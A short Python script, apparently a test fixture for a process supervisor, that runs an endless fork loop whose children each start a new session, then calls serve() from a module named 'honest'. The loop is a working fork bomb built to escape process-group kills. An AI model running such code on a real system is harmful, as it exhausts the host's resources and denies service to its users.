"""Forks without end, each child in a session of its own."""

import os
import time

from honest import serve

if os.fork() == 0:
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.1)
time.sleep(1)
serve()
